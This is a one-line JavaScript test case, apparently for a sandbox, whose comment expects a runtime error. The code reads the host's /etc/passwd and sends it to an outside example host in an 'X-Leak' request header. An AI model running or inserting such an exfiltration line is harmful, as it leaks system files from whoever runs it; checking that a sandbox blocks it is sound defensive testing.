// expect: runtime_error -- sends the host's /etc/passwd
fetch('https://api.example.com/items', { headers: { 'X-Leak': encodeURIComponent(require('fs').readFileSync('/etc/passwd', 'utf8')) } });
